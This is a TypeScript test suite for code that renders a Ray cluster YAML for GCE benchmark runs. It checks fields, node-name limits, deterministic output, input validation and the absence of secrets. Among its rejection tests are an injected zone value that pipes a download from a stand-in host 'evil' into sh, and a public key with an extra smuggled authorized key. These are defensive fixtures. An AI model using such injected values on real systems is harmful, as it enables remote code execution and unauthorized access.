// The per-run cluster YAML (docs/reference/per-run-cluster.md#cluster-yaml): every field, parsed back the way Ray (PyYAML, YAML 1.1)
// reads it; node names that fit GCE for the longest run ids; the same bytes for the same
// manifest, also after a JSON round trip through the stored manifest; no secret in it.
import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { ClusterConfigError, clusterConfig, renderClusterYaml, selfDeleteCommand, selfDeleteSeconds } from '../../src/cluster/yaml.js';
import { FRAMEWORKS, QUERY_MODES } from '../../src/inputs/combos.js';
import { GCE_NAME_PATTERN, mintRunId, RUN_ID_MAX, workerNodeName } from '../../src/inputs/run-id.js';
import { type RunManifest, serializeManifest } from '../../src/plan/manifest.js';
import { TEST_KEYS } from '../helpers/action.js';
import { clusterManifest, IMAGE_URI } from '../helpers/cluster.js';

const KEY = {
  sshPrivateKeyPath: '/home/runner/work/_temp/bird-cluster-x-AbC123/id_ed25519',
  sshPublicKey: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGbAfXvz/wA/jkQxfNeg5X8kqkRhDoyAzz5D9A79J6WJ bird-cloud-action',
};
const OTHER_KEY = {
  sshPrivateKeyPath: '/tmp/runner-temp-2/bird-cluster-x-ZZZ999/id_ed25519',
  sshPublicKey: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHc0YmVhdXRpZnVsa2V5Ynl0ZXN0aGF0aXNub3RyZWFs bird-cloud-action',
};

function load(text: string): unknown {
  return parse(text, { version: '1.1' });
}

const pyYaml = spawnSync('python3', ['-c', 'import yaml'], { stdio: 'ignore' }).status === 0;

describe('cluster YAML fields (docs/reference/per-run-cluster.md#cluster-yaml)', () => {
  const m = clusterManifest();
  const text = renderClusterYaml(m, KEY);
  const y = load(text) as Record<string, unknown>;

  it('is exactly the cluster of docs/reference/per-run-cluster.md#cluster-yaml, field by field', () => {
    const labels = { 'bird-interact-run-id': m.run_id, 'bird-interact-image-tag': m.run_id };
    const nodeCommon = {
      disks: [
        {
          boot: true,
          autoDelete: true,
          type: 'PERSISTENT',
          initializeParams: { diskSizeGb: 50, sourceImage: 'projects/ubuntu-os-cloud/global/images/family/ubuntu-2204-lts' },
        },
      ],
      serviceAccounts: [{ email: 'bird-interact-runner@bird-proj.iam.gserviceaccount.com', scopes: ['https://www.googleapis.com/auth/cloud-platform'] }],
      labels,
      metadata: {
        items: [
          { key: 'ssh-keys', value: `ubuntu:${KEY.sshPublicKey}` },
          { key: 'enable-oslogin', value: 'FALSE' },
        ],
      },
    };
    expect(y).toEqual({
      cluster_name: m.run_id,
      max_workers: 4,
      upscaling_speed: 0,
      idle_timeout_minutes: 30,
      docker: {
        image: IMAGE_URI,
        container_name: 'bird_interact_cloud',
        pull_before_run: true,
        run_options: [
          '--env BIRD_DB_PATH=/data/mini-interact',
          '--env BIRD_DATA_PATH=/data/mini-interact/mini_interact.jsonl',
          '--env BIRD_RESULTS_ROOT=/tmp/results',
          '--env BIRD_INTERACT_AGENTS_CLOUD=1',
          '--env BIRD_SLAYER_MODELS_ROOT=/data/slayer_models',
          '--env BIRD_OTF_CACHE_ROOT=/data/slayer_otf_cache',
          '--env BIRD_SLAYER_MODELS_OTF_ROOT=/data/slayer_models_otf',
        ],
      },
      provider: { type: 'gcp', region: 'us-central1', availability_zone: 'us-central1-a', project_id: 'bird-proj' },
      auth: { ssh_user: 'ubuntu', ssh_private_key: KEY.sshPrivateKeyPath },
      available_node_types: {
        'ray-head-default': { min_workers: 0, max_workers: 0, resources: { CPU: 0 }, node_config: { machineType: 'e2-medium', ...nodeCommon } },
        'ray-worker-default': { min_workers: 4, max_workers: 4, resources: { CPU: 4 }, node_config: { machineType: 'e2-standard-4', ...nodeCommon } },
      },
      head_node_type: 'ray-head-default',
      initialization_commands: [
        'sudo apt-get -o DPkg::Lock::Timeout=600 update -y',
        'sudo DEBIAN_FRONTEND=noninteractive apt-get -o DPkg::Lock::Timeout=600 install -y docker.io rsync acl',
        'sudo usermod -aG docker $USER',
        'sudo setfacl -m user:$USER:rw /var/run/docker.sock',
        'command -v gcloud >/dev/null 2>&1 || sudo snap install google-cloud-cli --classic',
        'gcloud auth configure-docker us-central1-docker.pkg.dev --quiet',
        'nohup bash -c "sleep 28800 && gcloud --quiet compute instances delete \\"$(hostname)\\" --zone=us-central1-a --delete-disks=all" >/tmp/self_delete.log 2>&1 &',
      ],
      head_start_ray_commands: [
        'ray stop',
        'ulimit -n 65536; ray start --head --port=6379 --object-manager-port=8076 --autoscaling-config=~/ray_bootstrap_config.yaml',
      ],
      worker_start_ray_commands: ['ray stop', 'ulimit -n 65536; ray start --address=$RAY_HEAD_IP:6379 --object-manager-port=8076'],
    });
  });

  it('writes the keys in a fixed order, with a header comment and no line folding', () => {
    expect(Object.keys(y)).toEqual([
      'cluster_name',
      'max_workers',
      'upscaling_speed',
      'idle_timeout_minutes',
      'docker',
      'provider',
      'auth',
      'available_node_types',
      'head_node_type',
      'initialization_commands',
      'head_start_ray_commands',
      'worker_start_ray_commands',
    ]);
    expect(text.startsWith(`# Ray cluster for BIRD-Interact run ${m.run_id}`)).toBe(true);
    // The self-delete timer is one line of the file, exactly as docs/reference/per-run-cluster.md#self-delete-timer gives it.
    expect(text).toContain(
      `  - nohup bash -c "sleep 28800 && gcloud --quiet compute instances delete \\"$(hostname)\\" --zone=us-central1-a --delete-disks=all" >/tmp/self_delete.log 2>&1 &\n`,
    );
  });

  it('the self-delete timer is int(max_runtime_hours * 3600) seconds, as Python computes it', () => {
    expect(selfDeleteSeconds(8)).toBe(28800);
    expect(selfDeleteSeconds(0.1)).toBe(360); // 0.1 * 3600 = 360.00000000000006
    expect(selfDeleteSeconds(7.9999)).toBe(28799);
    expect(selfDeleteSeconds(72)).toBe(259200);
    expect(selfDeleteCommand(1.5, 'europe-west4-b')).toBe(
      'nohup bash -c "sleep 5400 && gcloud --quiet compute instances delete \\"$(hostname)\\" --zone=europe-west4-b --delete-disks=all" >/tmp/self_delete.log 2>&1 &',
    );
    const y2 = load(renderClusterYaml(clusterManifest({ render: { max_runtime_hours: 2.5, region: 'europe-west4', zone: 'europe-west4-b' } }), KEY)) as {
      initialization_commands: string[];
    };
    expect(y2.initialization_commands.at(-1)).toContain('sleep 9000 && ');
    expect(y2.initialization_commands).toContain('gcloud auth configure-docker europe-west4-docker.pkg.dev --quiet');
  });

  it('follows workers, actors_per_worker and worker_type', () => {
    const c = clusterConfig(clusterManifest({ render: { workers: 1, actors_per_worker: 7, worker_type: 'n2-highmem-8' } }), KEY);
    expect(c.max_workers).toBe(1);
    expect(c.available_node_types['ray-worker-default']).toMatchObject({
      min_workers: 1,
      max_workers: 1,
      resources: { CPU: 7 },
      node_config: { machineType: 'n2-highmem-8' },
    });
    expect(c.available_node_types['ray-head-default']).toMatchObject({
      min_workers: 0,
      max_workers: 0,
      resources: { CPU: 0 },
      node_config: { machineType: 'e2-medium' },
    });
  });

  it.runIf(pyYaml)('PyYAML (what Ray parses with) reads the same document', () => {
    const r = spawnSync('python3', ['-c', 'import sys, json, yaml; print(json.dumps(yaml.safe_load(sys.stdin.read())))'], { input: text, encoding: 'utf8' });
    expect(r.status).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual(y);
  });

  it('quotes strings that YAML 1.1 would read as something else (a run id `no`, a date)', () => {
    const runIds = ['no', 'on', '2024-01-01', '0123', '1e5'];
    const texts = runIds.map((runId) => renderClusterYaml(clusterManifest({ runId }), KEY));
    runIds.forEach((runId, i) => {
      const doc = load(texts[i]) as { cluster_name: unknown; available_node_types: Record<string, { node_config: { labels: Record<string, unknown> } }> };
      expect(doc.cluster_name).toBe(runId);
      expect(doc.available_node_types['ray-worker-default'].node_config.labels['bird-interact-run-id']).toBe(runId);
    });
    if (pyYaml) {
      // One Python for all documents: starting it (and importing yaml) is the slow part.
      const r = spawnSync('python3', ['-c', 'import sys, json, yaml; print(json.dumps([yaml.safe_load(t)["cluster_name"] for t in json.load(sys.stdin)]))'], {
        input: JSON.stringify(texts),
        encoding: 'utf8',
      });
      expect(JSON.parse(r.stdout)).toEqual(runIds);
    }
  });
});

describe('node names (docs/reference/run-ids.md#length-limit)', () => {
  it('fit 63 characters for the longest minted run ids and for a 35-character given one', () => {
    const ids: string[] = ['a'.repeat(RUN_ID_MAX), `z${'9'.repeat(RUN_ID_MAX - 1)}`];
    for (const f of Object.keys(FRAMEWORKS)) for (const q of QUERY_MODES) ids.push(mintRunId(f, q, new Date(Date.UTC(2099, 11, 31, 23, 59)), 'ffffff'));
    for (const id of ids) {
      const c = clusterConfig(clusterManifest({ runId: id }), KEY);
      expect(c.cluster_name).toBe(id);
      const worker = workerNodeName(c.cluster_name, 'ffffffff');
      const head = `ray-${c.cluster_name}-head-ffffffff-compute`;
      for (const name of [worker, head]) {
        expect(name.length).toBeLessThanOrEqual(63);
        expect(name).toMatch(GCE_NAME_PATTERN);
      }
      // GCE label values: at most 63 characters of [-_a-z0-9].
      for (const v of Object.values(c.available_node_types['ray-worker-default'].node_config.labels)) expect(v).toMatch(/^[-_a-z0-9]{1,63}$/);
    }
  });

  it('refuses a run id that would not fit', () => {
    expect(() => clusterConfig(clusterManifest({ runId: 'a'.repeat(RUN_ID_MAX + 1) }), KEY)).toThrow(ClusterConfigError);
  });
});

describe('the same cluster from the same manifest', () => {
  it('renders the same bytes twice', () => {
    expect(renderClusterYaml(clusterManifest(), KEY)).toBe(renderClusterYaml(clusterManifest(), KEY));
  });

  it('a rerun renders from the stored manifest (JSON round trip) the same YAML, apart from the per-run key', () => {
    const first = renderClusterYaml(clusterManifest(), KEY);
    const stored = JSON.parse(serializeManifest(clusterManifest())) as RunManifest;
    expect(renderClusterYaml(stored, KEY)).toBe(first);
    // A rerun makes a new key pair in a new RUNNER_TEMP: only the key path and the public key it
    // authorizes differ.
    const rerun = renderClusterYaml(stored, OTHER_KEY);
    const diff = first
      .split('\n')
      .map((l, i) => [l, rerun.split('\n')[i]])
      .filter(([a, b]) => a !== b);
    expect(diff).toEqual([
      [`  ssh_private_key: ${KEY.sshPrivateKeyPath}`, `  ssh_private_key: ${OTHER_KEY.sshPrivateKeyPath}`],
      [`            value: ubuntu:${KEY.sshPublicKey}`, `            value: ubuntu:${OTHER_KEY.sshPublicKey}`],
      [`            value: ubuntu:${KEY.sshPublicKey}`, `            value: ubuntu:${OTHER_KEY.sshPublicKey}`],
    ]);
    const norm = (t: string, k: typeof KEY): string => t.split(k.sshPrivateKeyPath).join('<key>').split(k.sshPublicKey).join('<pub>');
    expect(norm(rerun, OTHER_KEY)).toBe(norm(first, KEY));
  });

  it('ignores the manifest fields that are not the cluster (GitHub context, ids, artifacts)', () => {
    const a = clusterManifest();
    const b = { ...a, instance_ids: ['x'], github: { ...a.github, sha: 'f'.repeat(40) }, dirty: true };
    expect(renderClusterYaml(b, KEY)).toBe(renderClusterYaml(a, KEY));
  });
});

describe('values that cannot be rendered safely', () => {
  const bad: Array<[string, Partial<RunManifest['render_inputs']>, RegExp]> = [
    ['a zone with a shell command', { zone: 'us-central1-a; curl evil | sh' }, /zone/],
    ['a zone outside the region', { zone: 'europe-west4-a' }, /not in region/],
    ['no image (an existing-cluster manifest)', { image_uri: '' }, /image_uri/],
    ['an image with a space', { image_uri: `${IMAGE_URI} --privileged` }, /image_uri/],
    ['workers 0', { workers: 0 }, /workers/],
    ['fractional actors', { actors_per_worker: 1.5 }, /actors_per_worker/],
    ['73 hours', { max_runtime_hours: 73 }, /max_runtime_hours/],
    ['a region with a quote', { region: "us-central1'" }, /region/],
    ['a bad machine type', { worker_type: 'E2 STANDARD' }, /worker_type/],
    ['a service account that is not an email', { worker_sa: 'None' }, /worker_sa/],
    ['a project name instead of an id', { project: 'My Project' }, /project/],
  ];
  for (const [what, render, re] of bad) {
    it(`refuses ${what}`, () => {
      expect(() => renderClusterYaml(clusterManifest({ render }), KEY)).toThrow(re);
    });
  }

  it('refuses a relative key path or a public key that is not one ed25519 line', () => {
    expect(() => renderClusterYaml(clusterManifest(), { ...KEY, sshPrivateKeyPath: 'id_ed25519' })).toThrow(/absolute/);
    expect(() => renderClusterYaml(clusterManifest(), { ...KEY, sshPublicKey: `${KEY.sshPublicKey}\nubuntu:ssh-rsa AAAA evil` })).toThrow(/public key/);
  });
});

describe('no secret in the YAML', () => {
  it('holds no API key value and no private key material, whatever the environment', () => {
    const saved = { ...process.env };
    Object.assign(process.env, TEST_KEYS);
    try {
      const text = renderClusterYaml(clusterManifest(), KEY);
      for (const v of Object.values(TEST_KEYS)) expect(text).not.toContain(v);
      for (const name of Object.keys(TEST_KEYS)) expect(text).not.toContain(name);
      expect(text).not.toMatch(/PRIVATE KEY/);
    } finally {
      process.env = saved;
    }
  });
});
